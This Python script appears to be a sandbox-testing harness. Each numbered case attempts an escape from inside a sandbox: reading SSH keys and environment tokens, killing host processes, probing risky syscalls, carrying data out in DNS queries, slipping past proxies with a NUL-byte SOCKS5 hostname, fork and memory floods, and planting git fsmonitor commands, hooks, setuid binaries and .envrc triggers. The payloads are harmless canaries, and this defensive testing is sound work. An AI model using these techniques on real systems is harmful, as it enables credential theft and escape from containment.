#!/usr/bin/env python3
"""One attack from inside: attacks.py CASE. Prints what came of it; compare.py runs it without any sandbox and in each of them.

A function is a case. Its description is what the table says; what it returns is how the attack succeeded, and None or an OSError is that it did not.
Numbers are those of the corpus where it has one.
"""
import ctypes, errno, functools, json, os, re, signal, socket, struct, subprocess, sys, time

C = ctypes.CDLL(None, use_errno=True)
C.syscall.restype = ctypes.c_long
stage = json.load(open("stage.json"))
cases = {}


def case(number, what, **about):
    """`inside`: makes sense in a sandbox only, so that nothing is learnt from trying it without one. `host`: compare.py looks whether it succeeded.
    `flood`: does harm without a limit, so it is not tried without a sandbox. `port`: the service of compare.py that it is after. `command_marks`: it is
    meant to run, and the question is whether each of these commands is on record."""

    def add(attack):
        cases[number] = (what, attack, about)
        return attack

    return add


def call(number, *arguments):
    """By number, so that no library softens the answer."""
    ctypes.set_errno(0)
    result = C.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def told(path):
    return "read it" if stage["canary"] in open(path, errors="replace").read() else None


# ---- files


@case("F01", "reads a key in ~/.ssh")
def _():
    return told(stage["home"] + "/.ssh/id_rsa")


@case("F03", "reads that key through a link in the workspace")
def _():
    os.symlink(stage["home"] + "/.ssh/id_rsa", "link")
    return told("link")


@case("F05", "reads another file of the home folder")
def _():
    return told(stage["home"] + "/notes.txt")


@case("F02", "writes to a folder outside that its user may write to", host=True)
def _():
    open(stage["open"] + "/written-F02", "w").write("x")


@case("F04", "reads the key through /proc/1/root", inside=True)
def _():
    return told("/proc/1/root" + stage["home"] + "/.ssh/id_rsa")


@case("F08", "mounts over /usr, or makes it writable", inside=True)
def _():
    if C.mount(b"none", b"/usr", None, 32 | 4096, None) == 0 or C.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
        return "mounted"


@case("F09", "takes a mount away", inside=True)
def _():
    points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    return next((f"took {p} away" for p in reversed(points) if C.umount2(p.encode(), 2) == 0), None)


@case("F12", "changes a file of the folder that it works on, for good", host=True, inside=True)
def _():
    open("base.txt", "w").write("changed\n")


@case("F17", "reads the kernel's command line and symbols")
def _():
    return "read them" if open("/proc/cmdline").read().strip() and open("/proc/kallsyms").readline() else None


@case("F18", "reads a file that was open in whoever started the tool")
def _():
    for number in os.listdir("/proc/self/fd"):
        try:
            if int(number) > 2 and stage["canary"].encode() in os.pread(int(number), 100, 0):
                return "inherited it"
        except OSError:
            pass


# ---- processes


@case("P01", "sees a process of the host")
def _():
    for number in filter(str.isdigit, os.listdir("/proc")):
        try:
            if stage["victim_argument"].encode() in open(f"/proc/{number}/cmdline", "rb").read():
                return "saw it"
        except OSError:
            pass


@case("P02", "kills a process of the host", host=True)
def _():
    os.kill(stage["victim"], signal.SIGKILL)


@case("P03", "traces the sandbox's own first process", inside=True)
def _():
    return "traced" if call(101, 0x4206, 1, 0, 0) == 0 else None


@case("P05", "has capabilities, or may get them", inside=True)
def _():
    held = dict(re.findall(r"^Cap(\w+):\t(\w+)$", open("/proc/self/status").read(), re.M))
    return "has " + held["Eff"] if int(held["Eff"], 16) | int(held["Prm"], 16) else None


@case("P07", "reads another process's memory, as a debugger does")
def _():
    word = ctypes.create_string_buffer(b"secret")
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    try:
        into = ctypes.create_string_buffer(6)
        vector = lambda buffer: (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 6)
        call(310, child, vector(into), 1, vector(word), 1, 0)
        return "read it" if into.raw == b"secret" else None
    finally:
        os.kill(child, signal.SIGKILL)


@case("P10", "talks to a service of the host by a socket in the home folder")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(stage["socket"])
        return "connected"


@case("P11", "enters the name spaces of process 1", inside=True)
def _():
    return "entered" if call(308, os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0 else None


@case("S01", "finds a token in its environment")
def _():
    return "found it" if stage["token"] in str(os.environ) else None


@case("S02", "finds it in the environment of any process it sees")
def _():
    for number in filter(str.isdigit, os.listdir("/proc")):
        try:
            if stage["token"].encode() in open(f"/proc/{number}/environ", "rb").read():
                return f"found it in {number}"
        except OSError:
            pass


# ---- the kernel's surface


@case("K01", "io_uring_setup")
def _():
    return "done" if call(425, 1, ctypes.create_string_buffer(120)) >= 0 else None


@case("K02", "userfaultfd")
def _():
    return "done" if call(323, 1) >= 0 else None


@case("K03", "bpf")
def _():
    program = struct.pack("<QQ", 0x00000000000000B7, 0x0000000000000095)
    kept = ctypes.create_string_buffer(program)
    licence = ctypes.create_string_buffer(b"GPL")
    attributes = ctypes.create_string_buffer(struct.pack("<IIQQIIQII", 1, 2, ctypes.addressof(kept), ctypes.addressof(licence), 0, 0, 0, 0, 0), 128)
    return "done" if call(321, 5, attributes, 48) >= 0 else None


@case("K04", "add_key: a keyring that the whole user shares")
def _():
    return "done" if call(248, b"user", b"ringfence-attack", b"x", 1, -4 & 0xFFFFFFFFFFFFFFFF) > 0 else None


@case("K06", "fsopen, in a user name space of its own")
def _():
    C.unshare(0x10000000 | 0x00020000)
    return "done" if call(430, b"tmpfs", 0) >= 0 else None


@case("K07", "unshare: a user name space")
def _():
    return "done" if C.unshare(0x10000000) == 0 else None


@case("K08", "clone3: a user name space")
def _():
    child = call(435, ctypes.create_string_buffer(struct.pack("<11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88)
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    return "done"


@case("K11", "ptrace of its own child")
def _():
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    try:
        return "done" if call(101, 0x4206, child, 0, 0) == 0 else None
    finally:
        os.kill(child, signal.SIGKILL)


@case("K12", "system calls by the numbers of x32")
def _():
    return "done" if call(0x40000000 + 39) > 0 else None


@case("K14", "sockets of exotic families (netlink, alg, vsock, packet)")
def _():
    made = []
    for name, family, kind in (("netlink", 16, 3), ("alg", 38, 5), ("vsock", 40, 1), ("packet", 17, 3)):
        try:
            socket.socket(family, kind).close()
            made.append(name)
        except OSError:
            pass
    return ", ".join(made) or None


@case("K16", "switches off the randomisation of addresses")
def _():
    return "done" if call(135, 0x0040000) >= 0 else None


@case("K18", "perf_event_open")
def _():
    return "done" if call(298, ctypes.create_string_buffer(struct.pack("<IIQ", 1, 112, 0) + bytes(8) + bytes(16) + struct.pack("<Q", 0x61), 112), 0, -1 & 0xFFFFFFFFFFFFFFFF, -1 & 0xFFFFFFFFFFFFFFFF, 0) >= 0 else None


# ---- the record


@case("A03", "executes 500 commands faster than anybody reads", inside=True, command_marks=[f"A03-{i}" for i in range(500)])
def _():
    for i in range(500):
        subprocess.run(["/bin/true", f"A03-{i}"])


@case("A05", "executes by a descriptor, without a path", inside=True, command_marks=["A05-descriptor"])
def _():
    program = os.open("/bin/true", os.O_RDONLY)
    child = os.fork()
    if child == 0:
        call(322, program, b"", (ctypes.c_char_p * 3)(b"true", b"A05-descriptor", None), (ctypes.c_char_p * 1)(None), 0x1000)
    os.waitpid(child, 0)


@case("K20", "executes a program that is in memory only", inside=True, command_marks=["K20-memory"])
def _():
    memory = os.memfd_create("program")
    os.write(memory, open("/bin/true", "rb").read())
    child = os.fork()
    if child == 0:
        os.execve(memory, ["true", "K20-memory"], {})
    os.waitpid(child, 0)


# ---- the network: what listens is on the host, beside the tools


def banner(family, address, port):
    with socket.socket(family) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return "reached it" if stage["canary"].encode() in s.recv(1000) else None


@case("N01", "connects to an address of the local network, past any proxy", port="tcp")
def _():
    return banner(socket.AF_INET, stage["lan"], stage["tcp"])


@case("N02", "the same by IPv6", port="tcp")
def _():
    return banner(socket.AF_INET6, stage["lan6"] or "::1", stage["tcp"])


@case("N05", "connects to a service on the host's own 127.0.0.1", port="tcp")
def _():
    return banner(socket.AF_INET, "127.0.0.1", stage["tcp"])


@case("N08", "carries data out in a DNS question to a server of its own", host=True, port="dns")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x0ccarried-away\7example\0\0\x10\0\1", (stage["lan"], stage["dns"]))
        time.sleep(0.3)


@case("N09", "the same over TCP", host=True, port="dns")
def _():
    with socket.socket(socket.AF_INET) as s:
        s.settimeout(3)
        s.connect((stage["lan"], stage["dns"]))
        s.sendall(b"\0\x26\x12\x34\x01\0\0\1\0\0\0\0\0\0\x0ccarried-away\7example\0\0\x10\0\1")
        time.sleep(0.3)


def through_proxy(opening):
    """What a proxy of the sandbox answers; without one there is nobody to deceive, and the address is tried as it is."""
    for name in ("ALL_PROXY", "all_proxy", "HTTPS_PROXY", "https_proxy"):
        found = re.match(r"\w+://(?:[^@]*@)?([^:/]+):(\d+)", os.environ.get(name, ""))
        if found:
            with socket.socket() as s:
                s.settimeout(3)
                s.connect((found[1], int(found[2])))
                return opening(s, os.environ[name])
    return banner(socket.AF_INET, stage["lan"], stage["tcp"])


def credentials(proxy):
    import base64, urllib.parse
    found = re.match(r"\w+://([^@]*)@", proxy)
    return base64.b64encode(urllib.parse.unquote(found[1]).encode()).decode() if found else ""


@case("N18", "asks a proxy of the sandbox for a host that is not allowed", port="tcp")
def _():
    def opening(s, proxy):
        s.sendall(f"CONNECT {stage['lan']}:{stage['tcp']} HTTP/1.1\r\nHost: {stage['allowed']}:443\r\nProxy-Authorization: Basic {credentials(proxy)}\r\n\r\n".encode())
        s.recv(1000)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return "reached it" if stage["canary"].encode() in s.recv(1000) else None

    return through_proxy(opening)


@case("N20", "hides the host behind a NUL byte and an allowed name (SOCKS5)", port="tcp")
def _():
    def opening(s, proxy):
        s.sendall(b"\5\2\0\2")
        answer = s.recv(2)
        if answer == b"\5\2":
            import urllib.parse
            user, _, word = urllib.parse.unquote(re.match(r"\w+://([^@]*)@", proxy)[1]).partition(":")
            s.sendall(bytes([1, len(user)]) + user.encode() + bytes([len(word)]) + word.encode())
            s.recv(2)
        name = stage["lan"].encode() + b"\0." + stage["allowed"].encode()
        s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + struct.pack(">H", stage["tcp"]))
        s.recv(100)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return "reached it" if stage["canary"].encode() in s.recv(1000) else None

    return through_proxy(opening)


@case("N26", "sends UDP to port 443, as QUIC does", host=True, port="quic")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"carried-away", (stage["lan"], stage["quic"]))
        time.sleep(0.3)


@case("N27", "gets an echo from the host (ICMP)", port="")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(1)
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (stage["lan"], 0))
        return "got it" if s.recv(100) and stage["network"] in os.readlink("/proc/self/ns/net") else None


@case("N29", "talks to an abstract socket of the host")
def _():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + stage["abstract"])
        return "connected"


@case("N34", "changes routes of its network", inside=True)
def _():
    with socket.socket(16, 3) as s:
        s.settimeout(1)
        index = socket.if_nametoindex("lo")
        body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + struct.pack("=HH4s", 8, 1, b"\xc6\x33\x64\x07") + struct.pack("=HHI", 8, 4, index)
        s.sendto(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body, (0, 0))
        return "changed" if struct.unpack("=i", s.recv(1000)[16:20])[0] == 0 else None


# ---- limits


@case("R01", "forks 2,000 processes", flood=True)
def _():
    children = []
    try:
        while len(children) < 2000:
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
        return "made them"
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)


@case("R02", "takes 1.5 GiB of memory", flood=True)
def _():
    try:
        held = [bytearray(os.urandom(1 << 20)) * 1 for _ in range(1536)]
        return "took them" if held else None
    except MemoryError:
        return None


@case("R03", "fills 1.5 GiB of /tmp", flood=True)
def _():
    try:
        with open("/tmp/ringfence-attack", "wb") as file:
            for _ in range(1536):
                file.write(bytes(1 << 20))
            file.flush()
            return "filled it"
    finally:
        os.unlink("/tmp/ringfence-attack")


@case("R08", "runs longer than its time of 2 seconds", flood=True)
def _():
    time.sleep(4)
    return "ran on"


@case("R14", "makes 2,000 threads", flood=True)
def _():
    import threading
    made = 0
    try:
        for made in range(2000):
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    except RuntimeError:
        return None
    return "made them"


# ---- the end


@case("T01", "leaves a process behind by forking twice", host=True, inside=True)
def _():
    subprocess.Popen(["sh", "-c", f"(sleep {stage['left']} &) &"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait()


@case("T02", "leaves a process behind in a session of its own", host=True, inside=True)
def _():
    subprocess.Popen(["setsid", "nohup", "sleep", stage["left"]], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(0.2)


@case("T07", "goes on when the tool is killed with -9", host=True, inside=True)
def _():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    subprocess.Popen(["sleep", stage["left"]], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("ready-to-be-killed", flush=True)
    time.sleep(60)


# ---- what waits for a person on the host


@case("W01", "puts a command into the repository's .git/config, for git on the host", host=True, inside=True)
def _():
    open(".git/config", "a").write("[core]\n\tfsmonitor = touch /tmp/pwned\n")


@case("W02", "puts a hook into the repository, for git on the host", host=True, inside=True)
def _():
    open(".git/hooks/pre-commit", "w").write("#!/bin/sh\n")


@case("W13", "leaves a program of its owner's rights (set-user) in the folder", host=True, inside=True)
def _():
    import shutil
    shutil.copy("/bin/true", "set-user")
    os.chmod("set-user", 0o4755)


@case("W17", "leaves an .envrc and a .vscode/tasks.json that run by themselves", host=True, inside=True)
def _():
    open(".envrc", "w").write("touch /tmp/pwned\n")
    os.mkdir(".vscode")
    open(".vscode/tasks.json", "w").write("{}")


if __name__ == "__main__":
    what, attack, about = cases[sys.argv[1]]
    try:
        succeeded = attack()
        print(f"\nverdict passed {succeeded}" if succeeded else "\nverdict blocked", flush=True)
    except Exception as error:
        print(f"\nverdict blocked {errno.errorcode.get(getattr(error, 'errno', None) or 0, type(error).__name__)}", flush=True)
    os._exit(0)
